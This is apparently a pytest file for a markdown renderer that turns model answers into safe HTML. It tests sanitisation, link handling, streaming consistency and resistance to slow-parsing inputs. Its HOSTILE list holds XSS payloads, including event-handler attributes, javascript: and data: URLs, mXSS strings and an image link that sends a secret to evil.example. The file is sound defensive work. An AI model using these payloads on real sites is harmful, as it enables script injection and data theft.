"""What a model writes becomes HTML that runs and loads nothing, the same streamed or whole."""

from __future__ import annotations

import random
import re

import pytest

from llmkit.gateway.web import markdown
from llmkit.gateway.web.code import LANGUAGES, highlighted
from llmkit.gateway.web.markdown import Growing, render
from llmkit.gateway.web.maths import mathml

HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![leak](https://evil.example/?q=secret)",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>1</script>)",
    "[d](vbscript:x) [e](file:///etc/passwd) [f](//evil.example) [g](/admin/models/unload)",
    "<a href='javascript:alert(1)'>x</a><svg onload=alert(1)><iframe src=//evil.example>",
    "<form action=//evil.example><input name=q><button>go</button></form>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example>",
    "$\\href{javascript:alert(1)}{x}$ $\\style{position:fixed}{x}$ $\\class{toolbar}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$ \\[\\mbox{</math><script>alert(1)</script>}\\]",
    "$x\" onload=\"alert(1)$ $\\text{&lt;script&gt;alert(1)&lt;/script&gt;}$",
    "```\"onmouseover=alert(1) x=\"\n<script>alert(1)</script>\n```",
    "```python\"><script>alert(1)</script>\nx\n```",
    "| <b onclick=alert(1)>x</b> |\n|--|\n| ![i](http://evil.example) |",
    "<http://x\" onclick=\"alert(1)> https://x.example/\"onclick=\"alert(1)",
    "[x](http://ok.example \"t\\\" onclick=alert(1)\") ![](x \"y\")",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=x'>",
    "&lt;script&gt;alert(1)&lt;/script&gt; \\<script>alert(1)\\</script>",
]  # fmt: skip
TAG = re.compile(r"<(/?)([a-zA-Z][a-zA-Z0-9]*)((?:[^>\"']|\"[^\"]*\"|'[^']*')*)>")
NAME = re.compile(r"([\w-]+)(?:=\"[^\"]*\")?")


@pytest.mark.parametrize("text", HOSTILE)
def test_nothing_runs_or_loads(text: str) -> None:
    for html in (*render(text), *render(f"> - {text}\n"), *render(f"# {text}")):
        for _, tag, attributes in TAG.findall(html):
            assert tag.lower() in markdown.HTML | markdown.MATHML, html
            for name in NAME.findall(attributes):
                assert not name.startswith("on") and name not in ("src", "style", "action"), html
        for address in re.findall(r'href="([^"]*)"', html):
            assert address.startswith(("http://", "https://")), html
        links = html.count("<a href")
        assert html.count('rel="noopener noreferrer"') >= links == html.count('<a href="http')


def test_blocks_of_an_answer() -> None:
    text = "# Title\n\nA *b* `c`\n\n| n | m |\n|--:|---|\n| 1 | 2 |\n\n```py\nx = 1\n```\n\n---\n"
    heading, paragraph, table, code, rule = render(text)
    assert heading == "<h3>Title</h3>" and rule == "<hr>"
    assert paragraph == "<p>A <em>b</em> <code>c</code></p>"
    assert '<th align="right">n</th>' in table and "style=" not in table
    assert 'data-language="py"' in code and '<span class="mi">1</span>' in code


def test_links_say_where_they_lead() -> None:
    (html,) = render("[here](https://a.example/x) and https://b.example/c_(d).")
    assert 'href="https://a.example/x" title="https://a.example/x" target="_blank"' in html
    assert 'href="https://b.example/c_(d)"' in html and html.endswith("</a>.</p>")
    assert "<a" not in render("[x][1]\n\n[1]: https://a.example")[0]


def test_pictures_are_words() -> None:
    (html,) = render("![a cat](https://a.example/cat.png)")
    assert "[picture: a cat]" in html and "<img" not in html and "<a" not in html


@pytest.mark.parametrize(
    "text", ["$x^2$", "\\(x^2\\)", "$$x^2$$", "\\[x^2\\]", "$$\nx^2\n$$", "\\[\nx^2\n= y\n\\]"]
)
def test_formulas(text: str) -> None:
    (html,) = render(text)
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in html
    assert ('display="block"' in html) == (not text.startswith(("$x", "\\(")))


@pytest.mark.parametrize(
    "text",
    [
        "No: $250 for size a_b and $260 for c_d.",
        "It costs $5, or $10 with tax.",
        "from $20 to $30",
        "5$ or 6$",
        "`$x$`",
        "\\$x\\$",
        "$ x $",
        "between $3 and 4$ more",
    ],
)
def test_prices_are_no_formulas(text: str) -> None:
    assert "<math" not in render(text)[0]


def test_formulas_that_cannot_be_read_stay_text() -> None:
    assert mathml("\\frac", display=False) is None
    assert mathml("x" * 5000, display=False) is None
    assert mathml("\\newcommand{\\a}{\\a\\a}\\a", display=False) is None
    assert "<code>\\frac</code>" in render("$\\frac$")[0]


PARTS = [
    "para one\nline two", "- a\n- b", "1. a", "2", "2. b", "- c\n\n  more\n\n- d",
    "```py\nx = 1\n\ny = 2\n```", "```\nopen", "$$\na\n= b\n$$", "\\[ x", "| a |\n|--|\n| 1 |",
    "> quote\nlazy", "# head", "setext\n---", "---", "    code\n\n    more", "<div>\n", "**bold",
    "[x]: http://y.example\n[x]", "\\(a\\) $5 and $6", "\r", "*", "-", "![i](http://e.example)",
    "~~~\na", "https://a.example/b", "$$", "x\u2028y\x0cz", "\t- t", "  - n", "",
]  # fmt: skip
ENDS = ["\n\n", "\n", "\n\n\n", " ", "\r\n\r\n", "\r\n", ""]


@pytest.mark.parametrize("seed", range(60))
def test_streamed_is_whole(seed: int) -> None:
    chance = random.Random(seed)
    text = "".join(chance.choice(PARTS) + chance.choice(ENDS) for _ in range(chance.randint(1, 9)))
    whole = render(text)
    for step in (1, chance.randint(2, 9), 40):
        growing, shown = Growing(), {}
        pieces = [text[i : i + step] for i in range(0, len(text), step)]
        for piece in pieces:
            shown.update(growing.feed(piece))
        shown.update(growing.feed("", last=True))
        assert growing.blocks == whole, text
        assert [shown[i] for i in range(len(whole))] == whole, text


@pytest.mark.parametrize(
    "unit",
    [
        "Some **words** here. " * 8 + "\n\n",
        "- item *one*\n",
        "word and ",
        "| a | b |\n",
        "x = 1  # why\n",
    ],
)
def test_a_long_answer_takes_linear_work(unit: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Counted in characters that are parsed: sixteen times the text is about as many times them."""
    begin = "```python\n" if unit.startswith("x") else "|a|b|\n|-|-|\n" if unit[0] == "|" else ""
    parser = markdown._parser()
    parsed = 0

    class Counting:
        def parse(self, text: str) -> object:
            nonlocal parsed
            parsed += len(text)
            return parser.parse(text)

        def __getattr__(self, name: str) -> object:
            return getattr(parser, name)

    monkeypatch.setattr(markdown, "_parser", Counting)
    work = []
    for size in (4_000, 64_000):
        parsed, text = 0, (begin + unit * (size // len(unit)))[:size]
        growing = Growing()
        for i in range(0, len(text), 4):
            growing.feed(text[i : i + 4])
        work.append(parsed)
    assert work[1] < 16 * 2.5 * work[0], work


@pytest.mark.parametrize(
    "unit",
    ["[", "`a", "$a ", "*a_ ", ">", "[a](", "![", "<http://", "http://", "\\(", "&", "&#x", "|a"],
)
def test_texts_made_to_take_long_do_not(unit: str) -> None:
    assert render(unit * 5000)


@pytest.mark.parametrize("language", LANGUAGES)
def test_code_made_to_take_long_loses_its_colours(language: str) -> None:
    for unit in ("FROM a\n", "/", "\n ", '"""\\', "s{"):
        shown = highlighted(unit * (20_000 // len(unit)), language)
        text = re.sub("<[^>]*>", "", shown)
        plain = text.replace("&quot;", '"').replace("&lt;", "<").replace("&amp;", "&")
        assert plain == unit * (20_000 // len(unit))


def test_a_text_without_end_has_one() -> None:
    growing = Growing()
    growing.feed("a" * markdown.MAX_CHARS)
    growing.feed("b" * 100, last=True)
    assert "b" not in growing.blocks[0]


@pytest.mark.parametrize("text", ["\\[\n" * 3000, "$$\n" * 3000])
def test_formulas_that_never_end_are_looked_for_once(text: str) -> None:
    assert "<math" not in "".join(render(text))


def test_a_small_text_makes_no_large_table() -> None:
    columns = 240
    text = "|" + "a|" * columns + "\n|" + "-|" * columns + "\n" + "|b|\n" * 500
    assert "".join(render(text)).count("<td") < 5000


def test_a_line_so_long_has_no_colours() -> None:
    assert "<span" not in "".join(render("```ini\n" + "=" * 20_000 + "\n```"))
    assert "<span" in "".join(render("```ini\na = 1\n```"))
